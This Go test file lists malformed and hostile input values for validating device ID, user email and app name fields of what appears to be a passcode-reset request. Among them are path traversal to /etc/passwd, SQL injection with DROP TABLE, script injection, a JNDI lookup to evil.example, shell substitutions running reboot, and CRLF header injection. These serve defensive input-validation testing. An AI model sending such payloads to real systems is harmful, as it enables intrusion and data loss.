package requesttest

// common are values that no field of a strict form may take.
func common() []named {
	return []named{
		{"empty", ""},
		{"space", " "},
		{"path-up", "../../users/x"},
		{"path-up-windows", `..\..\users\x`},
		{"path-encoded", "..%2f..%2fusers%2fx"},
		{"path-double-encoded", "..%252f..%252fusers"},
		{"path-absolute", "/etc/passwd"},
		{"path-dots", ".."},
		{"slash", device + "/resetPasscode"},
		{"query", device + "?$select=id"},
		{"fragment-slash", "#/" + device},
		{"url", "https://evil.example/" + device},
		{"sql", "' OR '1'='1'; DROP TABLE devices;--"},
		{"html", `<script>alert("x")</script>`},
		{"html-image", `"><img src=x onerror=alert(1)>`},
		{"template", "{{7*7}}"},
		{"template-dollar", "${jndi:ldap://evil.example/a}"},
		{"template-erb", "<%= 7*7 %>"},
		{"shell", "$(reboot)"},
		{"shell-backquote", "`reboot`"},
		{"format", "%s%s%n"},
		{"crlf", device + "\r\nAuthorization: Bearer x"},
		{"newline", device + "\n"},
		{"nul", device + "\x00"},
		{"nul-inside", "a\x00b"},
		{"escape-code", "\x1b[31mred\x1b[0m"},
		{"right-to-left", "\u202e" + device},
		{"zero-width", "\u200b" + device},
		{"byte-order-mark", "\ufeff" + device},
		{"replacement", "\ufffd"},
		{"subject-wildcard", "passcode.reset.requests.>"},
		{"star", "*"},
		{"long", repeat("a", 60000)},
		{"long-wide", repeat("é", 20000)},
	}
}

func devices() []Payload {
	return append(append(types(fieldDevice), text(fieldDevice, common())...), append(
		text(fieldDevice, []named{
			{"braces", "{" + device + "}"},
			{"parentheses", "(" + device + ")"},
			{"urn", "urn:uuid:" + device},
			{"no-hyphens", "0123456789abcdef0123456789abcdef"},
			{"hyphens-elsewhere", "012345678-9ab-cdef-0123-456789abcdef"},
			{"hyphens-only", repeat("-", 36)},
			{"underscores", "01234567_89ab_cdef_0123_456789abcdef"},
			{"short", device[:35]},
			{"longer", device + "0"},
			{"twice-over", device + device},
			{"not-hex", "g1234567-89ab-cdef-0123-456789abcdef"},
			{"space-before", " " + device},
			{"space-after", device + " "},
			{"tab-inside", "01234567-89ab-cdef-0123-456789abcde\t"},
			{"full-width", "０1234567-89ab-cdef-0123-456789abcdef"},
			{"full-width-36-bytes", "０34567-89ab-cdef-0123-456789abcdef"},
			{"arabic-digits", "٠١٢٣٤٥٦٧-89ab-cdef-0123-456789abcdef"},
			{"arabic-36-bytes", "٠234567-89ab-cdef-0123-456789abcdef"},
			{"cyrillic-a", "01234567-89аb-cdef-0123-456789abcdef"},
			{"cyrillic-36-bytes", "01234567-89а-cdef-0123-456789abcdef"},
			{"unicode-hyphens", "01234567‐89ab‐cdef‐0123‐456789abcdef"},
			{"hex-prefix", "0x234567-89ab-cdef-0123-456789abcdef"},
			{"signs", "+1234567--9ab-cdef-0123-456789abcdef"},
			{"percent", "%31234567-9ab-cdef-0123-456789abcdef"},
			{"word-null", "null"},
		}),
		raw(fieldDevice, "null", "null"),
		raw(fieldDevice, "surrogate", `"\ud800`+device+`"`),
	)...)
}

func users() []Payload {
	return append(append(types(fieldUser), text(fieldUser, common())...), append(
		text(fieldUser, []named{
			{"word", "me"},
			{"no-at", "alice.example.com"},
			{"at-only", "@"},
			{"at-first", "@example.com"},
			{"at-last", "alice@"},
			{"two-ats", "alice@evil.example@example.com"},
			{"two-ats-together", "alice@@example.com"},
			{"name-slash", "alice/x@example.com"},
			{"slash-encoded", "alice%2f@example.com"},
			{"slash-full-width", "alice／@example.com"},
			{"slash-in-domain", "alice@example.com/managedDevices"},
			{"backslash", `alice\x@example.com`},
			{"name-query", "alice?x=1@example.com"},
			{"ampersand", "alice@example.com&x=1"},
			{"colon", "alice:x@example.com"},
			{"semicolon", "alice@example.com;x"},
			{"plus", "alice+x@example.com"},
			{"name-space", "alice smith@example.com"},
			{"brackets", "<alice@example.com>"},
			{"quoted", `"alice"@example.com`},
			{"odata", "alice')@example.com/$value"},
			{"umlaut", "jürgen@example.com"},
			{"full-width-at", "alice＠example.com"},
			{"look-alike", "аlice@example.com"},
			{"kelvin", "\u212aelvin@example.com"},
			{"domain-crlf", "alice@example.com\r\nX: y"},
			{"name-nul", "alice\x00@example.com"},
			{"delete", "alice\x7f@example.com"},
			{"256-and-one", repeat("a", 245) + "@example.com"},
			{"guid-braces", "{" + device + "}"},
			{"guid-short", device[:35]},
		}),
		raw(fieldUser, "surrogate", `"alice\udc00@example.com"`),
	)...)
}

func apps() []Payload {
	return append(append(types(fieldApp), text(fieldApp, common())...), append(
		text(fieldApp, []named{
			{"dot", "a.b"},
			{"colon", "a:b"},
			{"equals", "a=b"},
			{"percent", "a%20b"},
			{"umlaut", "ä"},
			{"full-width", "ａｂｃ"},
			{"128-and-one", repeat("a", 129)},
		}),
		raw(fieldApp, "surrogate", `"\ud800\ud800"`),
	)...)
}
